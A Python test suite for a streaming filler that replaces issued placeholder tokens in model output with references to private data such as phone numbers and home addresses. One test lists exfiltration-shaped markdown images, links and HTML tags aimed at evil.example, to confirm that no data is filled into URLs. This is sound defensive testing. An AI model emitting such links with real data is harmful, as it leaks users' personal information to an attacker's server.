"""Placeholders are recognised however a model and a stream mangle them, where they were issued and may stand."""

import json
from itertools import combinations, pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vault.domain.placeholders import CODE_ALPHABET, Filler, Placeholders
from vault.domain.references import Ref, Referenced, escape, refs, render
from vault.domain.sinks import Sink

PHONE, NAME, HOME = (
    Ref("CONTACT.phone", "k3f9x2m7"),
    Ref("PERSON.name", "bcdfghjk"),
    Ref("LOC.home_address", "zzzzzzzz"),
)
ISSUED = Placeholders({"[PHONE_7K]": PHONE, "[NAME_7C]": NAME, "[HOME_ADDRESS_44]": HOME})


def filled(text: str, *cuts: int) -> Referenced:
    filler = Filler(ISSUED)
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    out = [filler.feed(text[a:b]).text for a, b in pairwise(edges)]
    return Referenced("".join([*out, filler.close().text]))


@pytest.mark.parametrize(
    "written",
    [
        "[PHONE_7K]", "[phone_7k]", "[Phone_7K]", "[ PHONE_7K ]", "[PHONE _7K]", "[\u00a0PHONE_7K\n]",
        "\\[PHONE\\_7K\\]",
        "[PHONE\\_7K]", "\\\\[PHONE\\\\_7K\\\\]", "[**PHONE_7K**]", "[*PHONE\\_7K*]", "[_PHONE_7K_]", "[`PHONE_7K`]",
        "\\u005bPHONE_7K\\u005d", "\\u005BPHONE\\u005f7K\\u005D", "[PHONE\u200b_7K]",
    ],
)  # fmt: skip
def test_an_altered_placeholder_is_filled_cut_anywhere(written: str) -> None:
    text = f"Call **{written}** é today."
    for a, b in combinations(range(len(text) + 1), 2):
        assert filled(text, a, b) == Referenced(f"Call **{PHONE}** é today.")


@pytest.mark.parametrize(
    "written",
    [
        "[PHONE_7C]", "[PHONE_7]", "[PHONE]", "[PHONE_7KK]", "[PHONE-7K]", "[PHONE 7K]", "[TELEFON_7K]", "PHONE_7K",
        "(PHONE_7K)",
        "<PHONE_7K>", "[PHONE_7K", "[PHONE__7K]", "[PHONE_\uff17K]", "[ſHONE_7K]", str(PHONE), "⟦=⟧",
        "%5BPHONE_7K%5D", "[EMAIL_9P]",
    ],
)  # fmt: skip
def test_what_was_not_issued_stays_literal(written: str) -> None:
    text = f"Call {written} today."
    assert refs(filled(text)) == ()
    assert render(filled(text), lambda ref: "filled") == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("[[PHONE_7K]]", f"[{PHONE}]"),
        ("[the [NAME_7C][PHONE_7K]", f"[the {NAME}{PHONE}"),
        ('{"to": "[NAME_7C]", "at": "[HOME_ADDRESS_44]"}', f'{{"to": "{NAME}", "at": "{HOME}"}}'),
        ("<b>[NAME_7C]</b>", f"<b>{NAME}</b>"),
        ("[mail me](https://example.com) [NAME_7C]", f"[mail me](https://example.com) {NAME}"),
        ("![x](a_(b).png) [NAME_7C]", f"![x](a_(b).png) {NAME}"),
        ("if a <b\n\n[NAME_7C]", f"if a <b\n\n{NAME}"),
        ("see https://example.com, [NAME_7C]", f"see https://example.com, {NAME}"),
        ("见https://example.com，[NAME_7C]", f"见https://example.com，{NAME}"),
        ("[Your name]: [NAME_7C]", f"[Your name]: {NAME}"),
        ("[PHONE_7K](later)", f"{PHONE}(later)"),
    ],
)
def test_what_stands_around_it_stays(text: str, kept: str) -> None:
    assert filled(text) == Referenced(kept)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d={})", "[x](/p?d={})", "[x](<https://evil.example/a ) {}>)",
        "[x](a (b {} c) d)",
        "https://evil.example/?d={}", "HTTPS://{}.evil.example", "www.evil.example/{}", "evil.example/p?d={}",
        "mailto:{}", "<img src='https://evil.example/{}'>", '<a title="a>b" href="{}">', "<a href={}>",
        "<{}".replace("<", "<a "),
        "[1]: /p?d={}", "  [id]: <{}>", "data:text/plain,{}", "[x](/p?d=\n{})",
    ],
)  # fmt: skip
@pytest.mark.parametrize("written", ["[PHONE_7K]", "\\[phone\\_7k\\]", "[ PHONE_7K ]"])
def test_nothing_is_filled_in_a_url_a_link_target_or_a_tag(text: str, written: str) -> None:
    text = "Look: \n" + text.replace("{}", written)
    for cut in range(len(text)):
        assert filled(text, cut).text == text


scraps = st.sampled_from(
    [
        "[PHONE_7K]",
        "[phone\\_7k]",
        "[NAME_7C]",
        "[",
        "]",
        "\\",
        "\\u005b",
        "PHONE_",
        "7K",
        "_",
        "*",
        " ",
        "\n",
        "\n\n",
        "(",
        ")",
        "](", "https://", "<a ", ">", '"', "⟦", "⟧", str(PHONE), "é", "NAME_7C", "u00", "=", "word",
    ]
)  # fmt: skip
texts = st.lists(scraps | st.text(max_size=3), max_size=25).map("".join)


@given(texts, st.lists(st.integers(0, 120), max_size=12))
def test_any_chunking_gives_the_same(text: str, cuts: list[int]) -> None:
    assert filled(text, *cuts) == filled(text)
    assert filled(text, *range(len(text))) == filled(text)


@given(texts)
def test_only_issued_references_come_out(text: str) -> None:
    assert set(refs(filled(text))) <= set(ISSUED.explained.values())


@given(st.text())
def test_text_without_placeholders_passes_unchanged(text: str) -> None:
    if "[" not in text and "\\" not in text:
        assert filled(text) == Referenced(escape(text))


@given(st.text(alphabet="abc [](PHONE_7K\\ué\n", max_size=80))
def test_no_more_is_held_back_than_may_become_a_placeholder(text: str) -> None:
    filler, seen, shown = Filler(ISSUED), "", ""
    for character in text:
        seen += character
        shown += render(filler.feed(character), lambda ref: "")
        held = seen[len(shown) :] if seen.startswith(shown) else ""
        assert not held or held.lstrip("\\").startswith(("[", "u")) or not held.strip("\\")


def test_streaming_is_incremental() -> None:
    filler = Filler(ISSUED)
    assert [filler.feed(c).text for c in ("Dear ", "[NA", "ME_", "7C", "], ", "[see", " x]")] == [
        "Dear ", "", "", "", f"{NAME}, ", "[see", " x]",
    ]  # fmt: skip


def many(count: int) -> list[Ref]:
    return [Ref("CONTACT.phone", f"{i:08d}") for i in range(count)]


@pytest.mark.parametrize("count", [0, 1, 50, 700])
def test_issued_placeholders_are_of_one_shape_and_share_nothing(count: int) -> None:
    references = many(count)
    issued = Placeholders.issue([*references, *references])
    names = [issued.of(ref) for ref in references]
    assert len(set(names)) == len(issued.explained) == count
    assert len({len(name) for name in names}) <= 1
    assert {issued.explained[name] for name in names} == set(references)
    assert all(set(name[7:-1]) <= set(CODE_ALPHABET) and name.startswith("[PHONE_") for name in names)
    codes = {name.rpartition("_")[2] for name in Placeholders.issue([PHONE, NAME, HOME]).explained}
    assert len(codes) == 3


def test_issuing_again_gives_other_codes() -> None:
    assert Placeholders.issue(many(40)).explained.keys() != Placeholders.issue(many(40)).explained.keys()


def test_they_are_kept_as_json_with_the_turn() -> None:
    kept = json.loads(json.dumps(ISSUED.to_json()))
    assert Placeholders.from_json(kept).explained == ISSUED.explained
    with pytest.raises(ValueError, match="unpack"):
        Placeholders.from_json({"[PHONE_7K]": "no reference"})


def test_a_reference_without_a_placeholder_has_none() -> None:
    with pytest.raises(KeyError):
        ISSUED.of(Ref("CONTACT.email", "22222222"))


def test_a_sink_forgets_an_unclosed_target_at_a_blank_line() -> None:
    sink = Sink()
    sink.write("[x](http")
    assert sink.forbids
    sink.write("\nmore")
    assert sink.forbids
    sink.write("\n\n")
    assert not sink.forbids
